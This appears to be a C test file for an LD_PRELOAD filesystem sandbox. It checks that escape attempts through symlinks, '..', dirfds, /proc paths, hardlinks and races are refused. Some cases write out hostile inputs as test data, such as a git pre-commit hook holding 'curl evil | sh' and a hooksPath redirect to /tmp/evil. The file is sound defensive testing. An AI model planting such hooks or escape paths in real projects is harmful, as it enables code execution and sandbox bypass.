@@ -1,0 +1,424 @@
+/* Real programs under the shim, and the ways a path can try to get past it:
+ * symlinks, "..", dirfds, /proc and /dev/fd paths, races.  Each case runs a
+ * real process and asserts the exit status, the message and what is on
+ * disk afterwards. */
+#include <check.h>
+#include <limits.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "util.h"
+
+static char *ws, *out; /* workspace (writable) and a place outside it */
+static char script[16384];
+
+static void setup(void)
+{
+	ws = sbt_tmpdir(false);
+	out = sbt_tmpdir(true);
+	char p[PATH_MAX];
+	snprintf(p, sizeof(p), "%s/file", out);
+	sbt_write(p, "original\n");
+	snprintf(p, sizeof(p), "%s/secret", out);
+	sbt_write(p, "s3cret\n");
+}
+
+static void teardown(void)
+{
+	sbt_rmrf(ws);
+	sbt_rmrf(out);
+	free(ws);
+	free(out);
+}
+
+/* Format into SCRIPT with {W} = workspace and {O} = outside expanded. */
+static const char *S(const char *tmpl)
+{
+	size_t o = 0;
+	for (const char *t = tmpl; *t && o < sizeof(script) - PATH_MAX; t++) {
+		if (t[0] == '{' && (t[1] == 'W' || t[1] == 'O') && t[2] == '}') {
+			o += (size_t)snprintf(script + o, sizeof(script) - o, "%s", t[1] == 'W' ? ws : out);
+			t += 2;
+		} else {
+			script[o++] = *t;
+		}
+	}
+	script[o] = '\0';
+	return script;
+}
+
+static char *P(const char *fmt, const char *rel)
+{
+	static char buf[4][PATH_MAX];
+	static int k;
+	char *b = buf[k++ % 4];
+	snprintf(b, PATH_MAX, "%s/%s", fmt[0] == 'W' ? ws : out, rel);
+	return b;
+}
+
+#define RUN(ini, tmpl) sbt_sh(&r, ini, ws, S(tmpl))
+#define ERR_HAS(s) ck_assert_msg(strstr(r.err, s), "stderr lacks '%s':\n%s", s, r.err)
+#define UNCHANGED() ck_assert_str_eq(sbt_read(P("O", "file")), "original\n")
+
+static struct sbt_run r;
+
+/* --- everyday programs ---------------------------------------------------- */
+
+START_TEST(t_sh_redirect)
+{
+	ck_assert_int_eq(RUN(NULL, "echo hello > f && cat f"), 0);
+	ck_assert_str_eq(r.out, "hello\n");
+	ck_assert_int_ne(RUN(NULL, "echo x > {O}/new"), 0);
+	ck_assert(!sbt_exists(P("O", "new")));
+	ERR_HAS(S("sbpreload: denied write '{O}/new': outside the writable paths (writable: "));
+	ERR_HAS("/tmp)");
+}
+END_TEST
+
+START_TEST(t_cp_mv)
+{
+	ck_assert_int_eq(RUN(NULL, "cp /etc/hostname h && mv h h2 && cat h2 >/dev/null"), 0);
+	ck_assert(sbt_exists(P("W", "h2")));
+	ck_assert_int_ne(RUN(NULL, "cp /etc/hostname {O}/h"), 0);
+	ck_assert(!sbt_exists(P("O", "h")));
+	ERR_HAS("sbpreload: denied write");
+	ck_assert_int_ne(RUN(NULL, "mv h2 {O}/h2"), 0);
+	ck_assert(sbt_exists(P("W", "h2")));
+	ck_assert(!sbt_exists(P("O", "h2")));
+	/* Moving a file in from outside removes it there: refused. */
+	ck_assert_int_ne(RUN(NULL, "mv {O}/file ./stolen"), 0);
+	UNCHANGED();
+}
+END_TEST
+
+START_TEST(t_python)
+{
+	ck_assert_int_eq(RUN(NULL, "python3 -c \"open('p.txt','w').write('ok')\""), 0);
+	ck_assert_str_eq(sbt_read(P("W", "p.txt")), "ok");
+	ck_assert_int_eq(RUN(NULL, "python3 -c \"open('{O}/file','a').write('x')\""), 1);
+	ERR_HAS("PermissionError");
+	ERR_HAS(S("sbpreload: denied write '{O}/file'"));
+	UNCHANGED();
+	ck_assert_int_eq(RUN(NULL, "python3 -c \"import os; os.mkdir('{O}/d')\""), 1);
+	ck_assert(!sbt_exists(P("O", "d")));
+}
+END_TEST
+
+#define GIT "git -c user.name=t -c user.email=t@example.com -c init.defaultBranch=main "
+
+START_TEST(t_git_fresh)
+{
+	ck_assert_int_eq(RUN(NULL, GIT "init -q && echo a > a && " GIT "add a && " GIT "commit -qm first && "
+				       "echo '#!/bin/sh' > .git/hooks/pre-commit && " GIT "log --oneline | wc -l"), 0);
+	ck_assert_str_eq(r.out, "1\n");
+}
+END_TEST
+
+START_TEST(t_git_existing)
+{
+	/* The repository exists before the session starts. */
+	char cmd[PATH_MAX * 2];
+	snprintf(cmd, sizeof(cmd), "cd %s && " GIT "init -q && echo a > a && " GIT "add a && " GIT "commit -qm one", ws);
+	ck_assert_int_eq(system(cmd), 0);
+	ck_assert_int_eq(RUN(NULL, "echo b >> a && " GIT "commit -qam two && " GIT "log --oneline | wc -l"), 0);
+	ck_assert_str_eq(r.out, "2\n");
+	ck_assert_int_ne(RUN(NULL, "echo 'curl evil | sh' > .git/hooks/pre-commit"), 0);
+	ck_assert(!sbt_exists(P("W", ".git/hooks/pre-commit")));
+	ERR_HAS("sbpreload: denied write '.git/hooks/pre-commit'");
+	ERR_HAS("matches deny_write rule");
+	ck_assert_int_ne(RUN(NULL, GIT "config core.hooksPath /tmp/evil"), 0);
+	ERR_HAS(".git/config");
+	ck_assert_int_ne(RUN(NULL, "mv .git .g"), 0);
+	ck_assert(sbt_exists(P("W", ".git/HEAD")));
+}
+END_TEST
+
+/* --- symlinks, "..", dirfds, /proc ---------------------------------------- */
+
+START_TEST(t_symlink_file)
+{
+	ck_assert_int_ne(RUN(NULL, "ln -s {O}/file link && echo x >> link"), 0);
+	UNCHANGED();
+	ERR_HAS(S("sbpreload: denied write 'link' (resolved '{O}/file')"));
+	/* Reading through it is fine: reads are not limited by default. */
+	ck_assert_int_eq(RUN(NULL, "cat link"), 0);
+	ck_assert_str_eq(r.out, "original\n");
+	/* A dangling link would create its target outside. */
+	ck_assert_int_ne(RUN(NULL, "ln -s {O}/created dangling && echo x > dangling"), 0);
+	ck_assert(!sbt_exists(P("O", "created")));
+	/* Acting on the link itself is judged by the link. */
+	ck_assert_int_eq(RUN(NULL, "rm link dangling"), 0);
+	UNCHANGED();
+}
+END_TEST
+
+START_TEST(t_symlink_dir)
+{
+	ck_assert_int_ne(RUN(NULL, "ln -s {O} ld && touch ld/new"), 0);
+	ck_assert(!sbt_exists(P("O", "new")));
+	ck_assert_int_ne(RUN(NULL, "mkdir ld/sub"), 0);
+	ck_assert(!sbt_exists(P("O", "sub")));
+	ck_assert_int_ne(RUN(NULL, "rm ld/file"), 0);
+	UNCHANGED();
+	ck_assert_int_ne(RUN(NULL, "mv ld/file x"), 0);
+	UNCHANGED();
+	ck_assert_int_ne(RUN(NULL, "chmod 600 ld/file"), 0);
+	struct stat st;
+	ck_assert_int_eq(stat(P("O", "file"), &st), 0);
+	ck_assert_int_ne(st.st_mode & 07777, 0600);
+}
+END_TEST
+
+START_TEST(t_dotdot)
+{
+	ck_assert_int_ne(RUN(NULL, "mkdir -p a/b && cd a/b && echo x > ../../../../../../../..{O}/dd"), 0);
+	ck_assert(!sbt_exists(P("O", "dd")));
+	ck_assert_int_eq(RUN(NULL, "mkdir -p a/b && echo x > a/b/../c && cat a/c"), 0);
+	ck_assert_str_eq(r.out, "x\n");
+	/* ".." after a symlink goes where the kernel goes, not lexically. */
+	ck_assert_int_ne(RUN(NULL, "mkdir -p {O}/deep/er && ln -s {O}/deep/er up && echo x > up/../escaped"), 0);
+	ck_assert(!sbt_exists(P("O", "deep/escaped")));
+}
+END_TEST
+
+START_TEST(t_proc_paths)
+{
+	ck_assert_int_ne(RUN(NULL, "echo x > /proc/self/root{O}/p1"), 0);
+	ck_assert(!sbt_exists(P("O", "p1")));
+	ck_assert_int_ne(RUN(NULL, "cd {O} && echo x > /proc/self/cwd/p2"), 0);
+	ck_assert(!sbt_exists(P("O", "p2")));
+	/* A read-only descriptor does not become writable through /proc. */
+	ck_assert_int_ne(RUN(NULL, "exec 3< {O}/file; echo x > /proc/self/fd/3"), 0);
+	UNCHANGED();
+	ck_assert_int_ne(RUN(NULL, "exec 3< {O}/file; echo x > /dev/fd/3"), 0);
+	UNCHANGED();
+	/* ...while the usual uses of /dev/stdout and /dev/null work. */
+	ck_assert_int_eq(RUN(NULL, "echo hi > /dev/stdout; echo x > /dev/null; cat /proc/self/status >/dev/null"), 0);
+	ck_assert_str_eq(r.out, "hi\n");
+}
+END_TEST
+
+START_TEST(t_dirfd)
+{
+	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
+				   "os.open('viafd', os.O_WRONLY|os.O_CREAT, 0o644, dir_fd=d)\""), 0);
+	ck_assert(!sbt_exists(P("O", "viafd")));
+	ERR_HAS("PermissionError");
+	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
+				   "open('/dev/fd/%d/viadevfd' % d, 'w')\""), 0);
+	ck_assert(!sbt_exists(P("O", "viadevfd")));
+	ck_assert_int_ne(RUN(NULL, "python3 -c \"import os; d=os.open('{O}', os.O_RDONLY); "
+				   "os.unlink('file', dir_fd=d)\""), 0);
+	UNCHANGED();
+	/* The same through a workspace dirfd works. */
+	ck_assert_int_eq(RUN(NULL, "python3 -c \"import os; d=os.open('.', os.O_RDONLY); "
+				   "os.close(os.open('viafd', os.O_WRONLY|os.O_CREAT, 0o644, dir_fd=d))\""), 0);
+	ck_assert(sbt_exists(P("W", "viafd")));
+}
+END_TEST
+
+START_TEST(t_hardlink)
+{
+	/* A second name for a file outside would let writes reach it. */
+	ck_assert_int_ne(RUN(NULL, "ln {O}/file hard"), 0);
+	ck_assert(!sbt_exists(P("W", "hard")));
+	ERR_HAS(S("denied write '{O}/file'"));
+}
+END_TEST
+
+START_TEST(t_read_deny)
+{
+	const char *ini = S("[filesystem]\ndeny += {O}/secret\n");
+	char saved[PATH_MAX];
+	snprintf(saved, sizeof(saved), "%s", ini);
+	ck_assert_int_ne(RUN(saved, "cat {O}/secret"), 0);
+	ERR_HAS(S("sbpreload: denied read '{O}/secret': matches deny rule '{O}/secret'"));
+	ck_assert_ptr_null(strstr(r.out, "s3cret"));
+	ck_assert_int_ne(RUN(saved, "ln -s {O}/secret s && cat s"), 0);
+	ck_assert_ptr_null(strstr(r.out, "s3cret"));
+	ck_assert_int_ne(RUN(saved, "cat /proc/self/root{O}/secret"), 0);
+	ck_assert_ptr_null(strstr(r.out, "s3cret"));
+	ck_assert_int_eq(RUN(saved, "cat {O}/file"), 0);
+}
+END_TEST
+
+START_TEST(t_large_file)
+{
+	/* Over 2 GiB: the shim's openat2 must ask for O_LARGEFILE. */
+	ck_assert_int_eq(RUN(NULL, "truncate -s 3G big && python3 -c \"f=open('big','rb'); f.seek(3*2**30-1); "
+				   "print(len(f.read()))\""), 0);
+	ck_assert_str_eq(r.out, "1\n");
+}
+END_TEST
+
+START_TEST(t_enoent_is_kernels)
+{
+	ck_assert_int_ne(RUN(NULL, "python3 -c \"open('{O}/no/such/dir/f','w')\""), 0);
+	ERR_HAS("FileNotFoundError");
+	ck_assert_int_ne(RUN(NULL, "python3 -c \"open('nodir/f','w')\""), 0);
+	ERR_HAS("FileNotFoundError");
+	ck_assert_ptr_null(strstr(r.err, "sbpreload:"));
+}
+END_TEST
+
+/* --- races --------------------------------------------------------------- */
+
+static void race(const char *mode)
+{
+	char pol[] = "[sandbox]\nmessages = none\n";
+	char *env = sbt_policy_env(pol, ws);
+	char *extra[] = {env, NULL};
+	char flipper[PATH_MAX];
+	snprintf(flipper, sizeof(flipper), "%s", sbt_path("tests/flipper"));
+	char *argv[] = {flipper, (char *)mode, ws, out, "3000", NULL};
+	int st = sbt_exec(&r, ws, true, extra, argv);
+	ck_assert_msg(st == 0, "flipper %s: status %d: %s", mode, st, r.err);
+	free(env);
+	long ok = -1, denied = -1;
+	ck_assert_int_eq(sscanf(r.out, "ok=%ld denied=%ld", &ok, &denied), 2);
+	fprintf(stderr, "race %s: %ld allowed, %ld refused\n", mode, ok, denied);
+	ck_assert_int_gt(ok + denied, 0);
+}
+
+START_TEST(t_race_final)
+{
+	char p[PATH_MAX];
+	snprintf(p, sizeof(p), "%s/victim", out);
+	sbt_write(p, "original\n");
+	race("final");
+	ck_assert_str_eq(sbt_read(p), "original\n");
+}
+END_TEST
+
+START_TEST(t_race_dir)
+{
+	race("dir");
+	ck_assert(!sbt_exists(P("O", "f")));
+	race("mkdir");
+	ck_assert(!sbt_exists(P("O", "sub")));
+}
+END_TEST
+
+/* --- modes, messages, log ------------------------------------------------ */
+
+START_TEST(t_audit_and_quiet)
+{
+	ck_assert_int_eq(RUN("[sandbox]\nmode = audit\n", "echo x > {O}/aud"), 0);
+	ck_assert(sbt_exists(P("O", "aud")));
+	ERR_HAS(S("sbpreload: would deny write '{O}/aud'"));
+	ck_assert_int_ne(RUN("[sandbox]\nmessages = none\n", "echo x > {O}/q 2>/dev/null; echo x > {O}/q"), 0);
+	ck_assert(!sbt_exists(P("O", "q")));
+	ck_assert_ptr_null(strstr(r.err, "sbpreload:"));
+}
+END_TEST
+
+START_TEST(t_shim_alone)
+{
+	char ini[PATH_MAX], cfg[PATH_MAX * 2], logp[PATH_MAX];
+	snprintf(logp, sizeof(logp), "%s/log.jsonl", out);
+	snprintf(ini, sizeof(ini), "%s/policy.ini", ws);
+	snprintf(cfg, sizeof(cfg), "[sandbox]\nlog = %s\n[filesystem]\nwrite = .\n", logp);
+	sbt_write(ini, cfg);
+	char env1[PATH_MAX + 32];
+	snprintf(env1, sizeof(env1), "SBPRELOAD_CONFIG=%s", ini);
+	char *extra[] = {env1, NULL};
+	char *argv[] = {"sh", "-c", (char *)S("sh -c 'echo x > {O}/a1'; echo y > {O}/a2; echo z > /tmp/sbpt-a3-$$; "
+					    "echo w > policy.ini; echo v > {O}/log.jsonl; true"),
+			NULL};
+	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 0);
+	ck_assert(!sbt_exists(P("O", "a1")));
+	ck_assert(!sbt_exists(P("O", "a2")));
+	/* Said once per session, not once per process. */
+	char *first = strstr(r.err, "no kernel layer");
+	ck_assert_ptr_nonnull(first);
+	ck_assert_ptr_null(strstr(first + 1, "no kernel layer"));
+	/* /tmp is not writable under this config; the policy file and the
+	 * log are never writable from inside. */
+	ERR_HAS("denied write '/tmp/sbpt-a3-");
+	ERR_HAS("denied write 'policy.ini'");
+	ERR_HAS(S("denied write '{O}/log.jsonl'"));
+	ck_assert_str_eq(sbt_read(ini), cfg);
+	char *log = sbt_read(logp);
+	ck_assert_ptr_nonnull(log);
+	int lines = 0;
+	for (char *l = log; (l = strchr(l, '\n')); l++)
+		lines++;
+	ck_assert_int_eq(lines, 5);
+	ck_assert(strstr(log, "\"op\":\"write\""));
+	ck_assert(strstr(log, "\"decision\":\"deny\""));
+	ck_assert(strstr(log, S("\"target\":\"{O}/a1\"")));
+	ck_assert(strstr(log, "\"exe\":\"/usr/bin/dash\"") || strstr(log, "\"exe\":\"/bin/dash\""));
+	ck_assert(strstr(log, "\"reason\":\"outside the writable paths"));
+	ck_assert(strstr(log, "\"rule\":null"));
+	ck_assert(strstr(log, "\"call\":\"open"));
+	free(log);
+}
+END_TEST
+
+START_TEST(t_shim_alone_bad_config)
+{
+	char ini[PATH_MAX], env1[PATH_MAX + 32];
+	snprintf(ini, sizeof(ini), "%s/bad.ini", ws);
+	sbt_write(ini, "[sandbox]\nmode = enforce\n[filesystem]\nwrite = /a/[b\n");
+	snprintf(env1, sizeof(env1), "SBPRELOAD_CONFIG=%s", ini);
+	char *extra[] = {env1, NULL};
+	char *argv[] = {"sh", "-c", "echo ran", NULL};
+	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 125);
+	ck_assert_ptr_null(strstr(r.out, "ran"));
+	char exp[PATH_MAX + 64];
+	snprintf(exp, sizeof(exp), "sbpreload: %s:4: write: invalid path or glob", ini);
+	ERR_HAS(exp);
+}
+END_TEST
+
+START_TEST(t_bad_policy_env)
+{
+	char *extra[] = {"SBPRELOAD_POLICY=AAAA", NULL};
+	char *argv[] = {"sh", "-c", "echo ran", NULL};
+	ck_assert_int_eq(sbt_exec(&r, ws, true, extra, argv), 125);
+	ck_assert_ptr_null(strstr(r.out, "ran"));
+	ERR_HAS("sbpreload: SBPRELOAD_POLICY does not hold a valid policy");
+}
+END_TEST
+
+static Suite *suite(void)
+{
+	Suite *s = suite_create("programs");
+	TCase *tc = tcase_create("programs");
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_set_timeout(tc, 120);
+	tcase_add_test(tc, t_sh_redirect);
+	tcase_add_test(tc, t_cp_mv);
+	tcase_add_test(tc, t_python);
+	tcase_add_test(tc, t_git_fresh);
+	tcase_add_test(tc, t_git_existing);
+	tcase_add_test(tc, t_symlink_file);
+	tcase_add_test(tc, t_symlink_dir);
+	tcase_add_test(tc, t_dotdot);
+	tcase_add_test(tc, t_proc_paths);
+	tcase_add_test(tc, t_dirfd);
+	tcase_add_test(tc, t_hardlink);
+	tcase_add_test(tc, t_read_deny);
+	tcase_add_test(tc, t_large_file);
+	tcase_add_test(tc, t_enoent_is_kernels);
+	tcase_add_test(tc, t_race_final);
+	tcase_add_test(tc, t_race_dir);
+	tcase_add_test(tc, t_audit_and_quiet);
+	tcase_add_test(tc, t_shim_alone);
+	tcase_add_test(tc, t_shim_alone_bad_config);
+	tcase_add_test(tc, t_bad_policy_env);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int main(void)
+{
+	SRunner *sr = srunner_create(suite());
+	srunner_run_all(sr, CK_NORMAL);
+	int failed = srunner_ntests_failed(sr);
+	srunner_free(sr);
+	return failed ? 1 : 0;
+}
